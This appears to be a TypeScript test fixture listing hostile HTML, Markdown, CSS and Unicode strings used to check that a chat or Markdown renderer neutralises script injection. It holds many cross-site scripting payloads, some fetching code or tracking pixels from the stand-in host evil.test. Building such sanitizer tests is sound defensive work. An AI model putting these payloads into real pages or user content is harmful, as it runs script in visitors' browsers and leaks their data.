/** A host that no DNS knows: a request to it, tried or done, is a leak. */
const EVIL = "http://evil.test";
const RUN = "hacked=1,alert(1)";

/** What has run as code in somebody's chat, panel or Markdown before, and what reaches for a host of its own. */
export const HOSTILE: readonly string[] = [
  // Elements that run or fetch by themselves.
  `<script>${RUN}</script>`,
  `<ScRiPt src=${EVIL}/a.js></sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.gif">`,
  `<img src=x:x onerror\u00a0=\u2028${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script><use href="${EVIL}/a.svg#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="${EVIL}/a.swf"></object><embed src="${EVIL}/b.swf">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<link rel=stylesheet href="${EVIL}/a.css"><link rel=preconnect href=${EVIL}>`,
  `<style>@import "${EVIL}/b.css"; * { background: url(${EVIL}/c.png) }</style>`,
  `<div style="background:url(javascript:${RUN});width:expression(${RUN})">x</div>`,
  `<video poster=${EVIL}/p.png><source src=x onerror=${RUN}></video>`,
  `<audio src=${EVIL}/a.mp3 autoplay onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}>`,
  `<form action="${EVIL}/"><button autofocus onfocus=${RUN}>Sign in</button></form>`,
  `<marquee onstart=${RUN}>x</marquee><body onload=${RUN}>`,
  `<a href="${EVIL}/" ping="${EVIL}/ping" onmouseover=${RUN}>a</a>`,
  `<template><script>${RUN}</script></template><noscript><img src=x onerror=${RUN}></noscript>`,
  `<x onclick=${RUN} tabindex=1 id=x onfocus=${RUN} autofocus>x`,
  // Out of an attribute, an element, a comment, a script.
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `"><`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</bdi></h1></renus-chat></template><img src=x onerror=${RUN}>`,
  `<!--><script>${RUN}</script>-->`,
  `--!><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `\\";${RUN};//`,
  `'-alert(1)-'`,
  // Already encoded: decoded once too often, they are the above.
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  // Templates of this and other houses.
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  `{{lit-0123456789}}<!--?lit$0123456789$--><img src=x onerror=${RUN}>`,
  `?lit$1$ <!--$--><x $onclick$="${RUN}" @click$=$>$</x>`,
  `{"_$litType$":1,"strings":["<img src=x onerror=${RUN}>"],"values":[]}`,
  `__proto__[innerHTML]=<img src=x onerror=${RUN}>`,
  // Addresses, as Markdown.
  `[a](javascript:${RUN})`,
  "[b](JaVaScRiPt:alert(1)) [c](vbscript:alert(1)) [d](data:text/html,<script>alert(1)</script>)",
  "[e](javascript&colon;alert(1)) [f](&#106;avascript:alert(1)) [g](javascript%3Aalert(1)) [h](java%0ascript:alert(1))",
  "[i](java\tscript:alert(1)) [j](<java\nscript:alert(1)>) [k](<\tjavascript:alert(1)>)",
  "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
  "[l](\u00a0javascript:alert(1)) [m](\u200bjavascript:alert(1)) [n](\u202ejavascript:alert(1)) [o](\ufeffjavascript:alert(1))",
  `[p](${EVIL}/"onmouseover="${RUN}) [q](${EVIL}/ "x" onclick="${RUN}") [r](<${EVIL}/" onclick="${RUN}>)`,
  `![pixel](${EVIL}/pixel.png) ![x](javascript:alert(1)) ![" onerror="${RUN}](x)`,
  `[![in](${EVIL}/in.png)](javascript:alert(1)) [a [b](javascript:alert(1)) c](data:text/html,x) [[x](https://ok.test)](javascript:alert(1))`,
  `[s]: javascript:alert(1)\n[t][s] [s] ![u]\n\n[u]: ${EVIL}/u.png "${RUN}"`,
  `https://ok.test/"onmouseover="${RUN} https://ok.test/<img src=x onerror=${RUN}>`,
  `<http://ok.test/'onclick='${RUN}'> <mailto:a@b.test?subject=<script>${RUN}</script>> <tel:1"onclick="${RUN}">`,
  "[v](//evil.test/a) [w](/admin) [x](blob:null/1) [y](file:///etc/passwd) [z](view-source:javascript:alert(1))",
  // HTML inside of Markdown.
  `\`\`\`html\n<script>${RUN}</script>\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${RUN}>\nx\n\`\`\` and \`</code><img src=x onerror=${RUN}>\``,
  `| a | <img src=x onerror=${RUN}> |\n|---|:-:"onclick=x|\n| [x](javascript:alert(1)) | </td><script>${RUN}</script> |`,
  `| <svg onload=${RUN}> | b |\n|---|:-:|\n| [x](javascript:alert(1)) | </td><script>${RUN}</script> |`,
  `> <iframe src=javascript:${RUN}>\n- <img src=x onerror=${RUN}>\n1. [x](javascript:alert(1))\n# <svg onload=${RUN}>`,
  `**<img src=x onerror=${RUN}>** *<svg onload=${RUN}>* ~~<script>${RUN}</script>~~ \\<script>${RUN}\\</script>`,
  // Unicode: look-alikes that a fold makes real, direction, half of a pair beside a bracket.
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e \u2039img src=x onerror=${RUN}\u203a`,
  `\u202e>'rorreno crs gmi<\u202c<img src=x onerror=${RUN}>\u2066\u2069`,
  `<\u017fcript>${RUN}</\u017fcript> <\u0130mg src=x onerror=${RUN}>`,
  `\u{1f600}<img src=x onerror=${RUN}>\u{1f600}[\u{1f600}](javascript:alert(1))\u{1f469}\u200d\u{1f4bb}`,
  // CSS that a style attribute or a colour would take.
  `red;background:url(${EVIL}/d.png)`,
  `url(${EVIL}/e.png)`,
  `#fff;}*{background:url("${EVIL}/f.png")}`,
  "expression(alert(1))",
];

/** With characters that a visitor may not write but a model may. */
export const HOSTILE_CONTROLS: readonly string[] = [
  `<scr\u0001ipt>${RUN}</script> [a](java\u0001script:alert(1)) [b](\u0001javascript:alert(1))`,
  `[c](java\u000bscript:alert(1)) [d](javascript\u001f:alert(1)) <\u0008javascript:alert(1)>`,
  `<img\u000csrc=x\u000conerror=${RUN}>\u0007\u001b]8;;${EVIL}/\u0007x\u001b]8;;\u0007`,
  `[e](java\rscript:alert(1)) [f](java\r\nscript:alert(1)) [g](\u0085javascript:alert(1))`,
];

/** U+0000 is in no stored text. */
export const HOSTILE_NULLS: readonly string[] = [
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img \u0000src=x onerror=${RUN}>`,
  "[a](java\u0000script:alert(1)) \u0000[b](\u0000javascript:alert(1))",
];
